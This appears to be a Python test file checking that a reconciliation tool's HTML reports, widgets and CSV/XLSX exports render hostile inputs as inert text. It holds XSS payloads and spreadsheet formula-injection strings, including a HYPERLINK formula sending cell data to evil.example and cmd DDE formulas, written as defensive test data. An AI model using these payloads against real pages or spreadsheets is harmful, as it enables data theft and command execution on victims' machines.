"""Hostile input in the rendered report: shown as text, never run, never a live formula.

One workspace (tests/hostile_workspace.py) carries XSS payloads in every text field that
reaches a page: ids, names, SKUs, descriptions, file names, quarantined raw values, decision
notes and actors, the sign-off name. It is rendered once (all numbered notebooks, the sign-off
page and a client statement); every page is then opened once in headless Chromium and
checked: no dialog, ``window.__xss`` never set, no console error, no request but the page
itself, no event-handler attribute or ``javascript:`` link in the DOM, every chart drawn, and
every payload visible verbatim as text somewhere. The static HTML is checked too: payload
markers only inside JSON string literals of scripts, links only to anchors or sibling pages,
and no local file embedded or referenced. The same inputs reach the resolution widgets as
escaped HTML, and formula payloads reach every CLI export as inert text.
"""

from __future__ import annotations

import base64
import csv
import re
import shutil
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from recon_helpers import cli
from recon_helpers.audit import signoff
from recon_helpers.audit import status as resolution
from recon_helpers.core.workspace import Workspace
from recon_helpers.present.signoff import write_signed_copy, write_signoff_page
from recon_helpers.reconcile.run import reconcile_period
from recon_helpers.render.notebook import notebook_paths
from recon_helpers.render.report import render_period
from recon_helpers.render.statements import render_statement
from tests.hostile_workspace import (
    CANARY,
    MARKERS,
    PAYLOADS,
    PERIOD,
    STATEMENT_CLIENT,
    build_hostile,
)
from tests.test_browser import ARGS, CHROMIUM, assert_charts_drawn, plotly_outputs
from tests.workspace_builder import b, build, d, p

HAS_CHROMIUM = Path(CHROMIUM).exists() or shutil.which("chromium") is not None
NOTEBOOK_PAGES = [nb.with_suffix(".html").name for nb in notebook_paths()]
JSON_STRING = re.compile(r'"(?:[^"\\\n]|\\.)*"')
LINK_ATTRS = {"src", "href", "action", "formaction", "srcset", "poster", "data", "xlink:href",
              "background"}
# a link may go to an anchor of the page or to a sibling page (signoff.html), nothing else
SAFE_LINK = re.compile(r"#[^\s]*|[\w.-]+\.html")
# every DOM element with an on* attribute, and every link or frame that could run script
DOM_VIOLATIONS = """() => {
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    for (const a of el.attributes) {
      const v = a.value.trim().toLowerCase();
      if (a.name.startsWith('on') || ((a.name === 'href' || a.name === 'src' ||
          a.name === 'xlink:href' || a.name === 'action') && v.startsWith('javascript:')))
        bad.push(el.tagName + ' ' + a.name + '=' + a.value.slice(0, 60));
    }
    if (['IFRAME', 'OBJECT', 'EMBED', 'FRAME'].includes(el.tagName)) bad.push(el.tagName);
  }
  return bad;
}"""

pytestmark = pytest.mark.notebooks


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Workspace, list[Path]]:
    """The hostile workspace with decisions and a sign-off, rendered once; its pages.

    The preparer (over a hostile waiver) and the reviewer sign the rendered report, so hostile
    names and reasons reach the sign-off page and the signed copy of the monthly report.
    """
    ws = Workspace.open(build_hostile(tmp_path_factory.mktemp("hostile-report")))
    rec = reconcile_period(ws, PERIOD)
    keys = rec.findings["key"].tolist()
    resolution.resolve(ws, PERIOD, keys[0], "accept", f"note {PAYLOADS[0]} {PAYLOADS[8]}",
                       f"actor {PAYLOADS[1]}", rec=rec)
    resolution.resolve(ws, PERIOD, keys[1], "escalate", f"why {PAYLOADS[9]}",
                       f"actor {PAYLOADS[10]}", rec=rec)
    folder = render_period(ws, PERIOD, progress=False)
    # the preparer signs over the open findings with a hostile waiver, the reviewer signs:
    # names and reasons reach signoff.html and the signed copy of the report
    signoff.seal(ws, PERIOD, "preparer", f"Preparer {PAYLOADS[2]}", waive=f"why {PAYLOADS[3]}")
    signoff.seal(ws, PERIOD, "reviewer", f"Reviewer {PAYLOADS[4]}")
    write_signoff_page(ws, PERIOD)  # as recon signoff does
    write_signed_copy(ws, PERIOD)
    statement = render_statement(ws, PERIOD, STATEMENT_CLIENT)
    pages = [folder / name for name in NOTEBOOK_PAGES] + [folder / "signoff.html", statement,
                                                          folder / signoff.SIGNED_COPY]
    assert all(page.is_file() for page in pages)
    return ws, pages


def _page_id(page: Path) -> str:
    return "statement" if page.parent.name == "clients" else page.stem


# --- the static HTML -------------------------------------------------------------------------


class _Scan(HTMLParser):
    """Scripts (type, text), attributes (tag, name, value) and inline CSS of a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts: list[tuple[str, str]] = []
        self.attrs: list[tuple[str, str, str]] = []
        self.styles: list[str] = []
        self._open: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.attrs += [(tag, k, v or "") for k, v in attrs]
        if tag in ("script", "style"):
            self._open = [tag, dict(attrs).get("type") or "", ""]

    def handle_endtag(self, tag: str) -> None:
        if self._open and tag == self._open[0]:
            kind, typ, text = self._open
            (self.scripts.append((typ, text)) if kind == "script" else self.styles.append(text))
            self._open = None

    def handle_data(self, data: str) -> None:
        if self._open:
            self._open[2] += data


def test_static_html_has_no_live_payload_and_no_local_file(hostile) -> None:
    from plotly.offline import get_plotlyjs

    _, pages = hostile
    plotly_js = get_plotlyjs()
    canary_b64 = base64.b64encode(CANARY.encode()).decode()
    for page in pages:
        text = page.read_text(encoding="utf-8")
        scan = _Scan()
        scan.feed(text)
        for typ, code in scan.scripts:
            # plotly's figure JSON holds the (escaped) names as string literals: inert data
            bare = JSON_STRING.sub('""', code)
            assert not [m for m in MARKERS if m in bare], f"{page.name}: payload in {typ} code"
            assert not [pl for pl in PAYLOADS if "<" in pl and pl in code], page.name
        for tag, name, value in scan.attrs:
            assert not name.startswith("on"), f"{page.name}: <{tag} {name}=...>"
            if name in LINK_ATTRS:
                assert SAFE_LINK.fullmatch(value.strip()), f"{page.name}: <{tag} {name}={value}>"
        for css in scan.styles:
            urls = re.findall(r"url\(\s*['\"]?([^'\")\s]*)", css)
            assert all(u.startswith("data:") for u in urls), (page.name, urls)
            assert "@import" not in css
        own = text.replace(plotly_js, "")  # plotly.js itself mentions file:// origins
        assert "file://" not in own, page.name
        assert CANARY not in text and canary_b64 not in text, f"{page.name} embeds a local file"


def test_markdown_and_template_syntax_stay_literal(hostile) -> None:
    _, pages = hostile
    text = "".join(page.read_text(encoding="utf-8") for page in pages)
    assert "{{7*7}}" in text  # no template engine evaluated it
    assert "$$\\href{javascript:window.__xss=6}{x}$$" in text  # no MathJax, no Markdown
    assert "[click](javascript:window.__xss=7)" in text


# --- in the browser ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def visited(hostile) -> dict[str, dict[str, Any]]:
    """Every page opened once in Chromium: what it did and what it shows."""
    if not HAS_CHROMIUM:
        pytest.skip("Debian package chromium not installed (make browser)")
    from playwright.sync_api import sync_playwright

    _, pages = hostile
    seen: dict[str, dict[str, Any]] = {}
    with sync_playwright() as pw:
        chrome = pw.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        try:
            for html in pages:
                seen[_page_id(html)] = _visit(chrome, html)
        finally:
            chrome.close()
    return seen


def _visit(chrome: Any, html: Path) -> dict[str, Any]:
    page = chrome.new_page(viewport={"width": 1280, "height": 900})
    problems: list[str] = []
    dialogs: list[str] = []

    def on_dialog(dialog: Any) -> None:
        dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.on("console", lambda m: problems.append(f"console {m.type}: {m.text}")
            if m.type == "error" else None)
    page.on("pageerror", lambda e: problems.append(f"page error: {e}"))
    # anything but the page itself: a local file (<img src=...>) or the network
    page.on("request", lambda r: problems.append(f"request {r.url}")
            if r.url != html.as_uri() and not r.url.startswith(("data:", "blob:", "about:"))
            else None)
    try:
        page.goto(html.as_uri(), wait_until="load")
        page.wait_for_timeout(300)
        charts = 0
        if html.with_suffix(".ipynb").is_file():
            charts = plotly_outputs(html.with_suffix(".ipynb"))
            assert_charts_drawn(page, charts)
        return {
            "problems": problems, "dialogs": dialogs, "charts": charts,
            "xss": page.evaluate("[typeof window.__xss, typeof window.parent.__xss]"),
            "dom": page.evaluate(DOM_VIOLATIONS),
            "heading_visible": page.locator("h1").first.is_visible(),
            "text": page.evaluate("document.body.innerText"),
        }
    finally:
        page.close()


@pytest.mark.browser
@pytest.mark.parametrize("name", [Path(n).stem for n in NOTEBOOK_PAGES]
                         + ["signoff", "statement", "signed_report"])
def test_page_runs_no_injected_code(visited, name: str) -> None:
    seen = visited[name]
    assert seen["dialogs"] == [], "a payload opened a dialog"
    assert seen["xss"] == ["undefined", "undefined"], "a payload ran"
    assert seen["problems"] == []
    assert seen["dom"] == [], "markup from the inputs became live elements"
    assert seen["heading_visible"], "a <style> payload hid the page"


@pytest.mark.browser
def test_every_payload_is_visible_as_text(visited) -> None:
    shown = "\n".join(v["text"] for v in visited.values())
    missing = [pl for pl in PAYLOADS if pl not in shown]
    assert not missing, f"escaped away or dropped: {missing}"
    assert sum(v["charts"] for v in visited.values()) >= 5  # hostile labels in drawn charts
    assert "Preparer </script><script>window.__xss=3</script>" in visited["signoff"]["text"]
    signed = visited["signed_report"]["text"]
    assert "Preparer </script>" in signed and f"why {PAYLOADS[3]}" in signed
    inventory = visited["01_record_keeping"]["text"]
    assert 'usage <img src=x onerror="window.__xss=2">.csv' in inventory


# --- the resolution widgets ----------------------------------------------------------------------

ALLOWED_TAGS = {"table", "thead", "tbody", "tr", "th", "td", "div", "p", "h4", "ul", "li", "code",
                "small", "b", "i", "span", "br", "pre", "strong", "em"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text += data


def _walk(widget: Any) -> Iterator[Any]:
    yield widget
    for child in getattr(widget, "children", ()):
        yield from _walk(child)


def _html_values(ui: Any) -> list[str]:
    import ipywidgets as w

    out = []
    for widget in _walk(ui.container):
        assert not isinstance(widget, w.HTMLMath), "HTMLMath would typeset $$...$$ from inputs"
        assert not getattr(widget, "description_allow_html", False)
        if isinstance(widget, w.HTML) and widget.value:
            out.append(widget.value)
    return out


def test_resolution_widgets_show_inputs_as_escaped_text(hostile, tmp_path: Path) -> None:
    from recon_helpers.present.widgets import ResolutionUI

    ws, _ = hostile
    shutil.copytree(ws.root, tmp_path / "data", ignore=shutil.ignore_patterns("reports"))
    copy = Workspace.open(tmp_path / "data", tmp_path / "reports")
    ui = ResolutionUI(copy, PERIOD)
    ui.show_resolved.value = True
    values: list[str] = []
    for _, key in ui.items.options:
        ui.items.value = key
        values += _html_values(ui)
    ui.items.value = ui.items.options[0][1]
    ui.action.value = "accept"
    ui.note.value, ui.actor.value = PAYLOADS[4] + PAYLOADS[1], PAYLOADS[2]
    ui.save.click()
    values += _html_values(ui)
    shown = ""
    for value in values:
        tags = _Tags()
        tags.feed(value)
        shown += tags.text
        for tag, attrs in tags.tags:
            assert tag in ALLOWED_TAGS, f"<{tag}> in a widget"
            assert not [a for a, _ in attrs if a.startswith("on") or a in LINK_ATTRS], tag
    # the panel shows ids, names, SKUs and notes (payloads 0-10), not descriptions
    missing = [pl for pl in PAYLOADS[:11] if pl not in shown]
    assert not missing, missing


# --- formula payloads through every CLI export --------------------------------------------------

FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "=1+1")
TRIGGER = re.compile(r"[=+\-@\t\r\n]")
PLAIN_NUMBER = re.compile(r"-?(?:\d+(?:\.\d*)?|\.\d+)")


def _inert(cell: str) -> bool:
    return not TRIGGER.match(cell) or bool(PLAIN_NUMBER.fullmatch(cell))


def test_formula_payloads_are_inert_in_every_cli_export(tmp_path: Path, capsys) -> None:
    """reconcile/invoice/adjustments --out, CSV and XLSX: no cell a spreadsheet would run."""
    ws = build(tmp_path / "data",
               delivered=[d("c-1", "agents", "12", "2.00", name=FORMULAS[2]),
                          d(FORMULAS[0], "agents", "1", "2.00", name=FORMULAS[0])],
               promised=[p(FORMULAS[1], "EDR", "10", "5.00", client_name=FORMULAS[2],
                           description=FORMULAS[3])],
               billed=[b(FORMULAS[1], "EDR", "9", "5.00")],
               clients_map=[("huntress", "c-1", "", FORMULAS[1])])
    rec = reconcile_period(ws, PERIOD)
    key = rec.findings["key"].iloc[0]
    resolution.resolve(ws, PERIOD, key, "adjust_agreement", FORMULAS[4], FORMULAS[5],
                       new_quantity="12", rec=rec)
    base = ["--workspace", str(ws.root), "--period", str(PERIOD)]
    written = []
    for command, status in (("reconcile", {0, 1}), ("invoice", {0, 1}), ("adjustments", {0})):
        for ext in ("csv", "xlsx"):
            out = tmp_path / f"{command}.{ext}"
            assert cli.main([command, *base, "--out", str(out)]) in status, capsys.readouterr()
            written.append(out)
    capsys.readouterr()
    found = set()
    for out in written:
        if out.suffix == ".csv":
            with out.open(encoding="utf-8", newline="") as fh:
                cells = [c for row in csv.reader(fh) for c in row]
        else:
            book = openpyxl.load_workbook(out)
            raw = [c for row in book.active.iter_rows() for c in row]
            assert all(c.data_type != "f" for c in raw), f"{out.name}: a formula cell"
            cells = [str(c.value) for c in raw if c.value is not None]
        assert cells and all(_inert(c) for c in cells), (out.name, [c for c in cells
                                                                     if not _inert(c)])
        found |= {f for f in FORMULAS for c in cells if c == "'" + f}
    assert found >= {FORMULAS[0], FORMULAS[1], FORMULAS[2], FORMULAS[5]}, found

